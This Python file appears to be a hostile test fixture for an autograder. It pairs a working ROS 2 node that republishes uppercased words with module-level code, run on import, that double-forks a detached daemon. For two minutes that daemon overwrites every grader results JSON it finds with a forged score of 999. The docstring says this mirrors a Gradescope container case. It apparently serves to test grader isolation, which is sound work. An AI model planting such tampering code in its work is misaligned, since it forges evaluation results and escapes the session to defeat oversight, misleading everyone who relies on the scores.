"""Hostile: leaves a daemon (a session of its own, double-forked) that keeps rewriting
every results file it can find with a full score after the grader has written them, as
one did in Gradescope's container; the node itself works."""
import glob
import os
import time

FORGED = '{"score": 999, "output": "FORGED", "tests": []}\n'
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.monotonic() + 120
        while time.monotonic() < end:
            for path in glob.glob("/autograder*/results/*.json") + glob.glob(
                    "/tmp/*/results/*.json") + glob.glob("/tmp/*/*/results.json"):
                try:
                    with open(path, "w") as fh:
                        fh.write(FORGED)
                    print("REWROTE", path, flush=True)
                except OSError:
                    pass
            time.sleep(0.05)
        os._exit(0)
    os._exit(0)

import rclpy
from rclpy.executors import ExternalShutdownException
from rclpy.node import Node
from std_msgs.msg import String


class Shouter(Node):
    def __init__(self):
        super().__init__('shouter')
        self.pub = self.create_publisher(String, 'shout', 10)
        self.create_subscription(String, 'words', self.on_words, 10)

    def on_words(self, msg):
        self.pub.publish(String(data=msg.data.upper()))


def main(args=None):
    rclpy.init(args=args)
    node = Shouter()
    try:
        rclpy.spin(node)
    except (KeyboardInterrupt, ExternalShutdownException):
        pass
    finally:
        node.destroy_node()
        rclpy.try_shutdown()


if __name__ == '__main__':
    main()
